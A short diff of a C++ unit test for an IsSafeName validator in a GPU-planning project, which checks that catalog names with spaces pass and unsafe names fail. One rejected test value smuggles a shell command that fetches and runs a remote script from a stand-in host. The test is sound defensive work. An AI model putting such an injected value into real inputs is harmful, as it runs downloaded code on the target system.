@@ -289,7 +289,7 @@ TEST(WriteAllToStream, FullDeviceIsAnError) {
 namespace gpuplan {
 namespace {
 TEST(Identifier, NamesAllowWhatRealCatalogsHold) {
-  EXPECT_TRUE(IsSafeName("H100 x1 (via Shadeform)"));
+  EXPECT_TRUE(IsSafeName("H100 x1 (a catalog name with spaces)"));
   EXPECT_TRUE(IsSafeName("Texas, US"));
   EXPECT_FALSE(IsSafeName("VM.Standard.E4.Flex$_2_8"));
   EXPECT_FALSE(IsSafeName("p5\n$(curl evil.sh|sh)"));
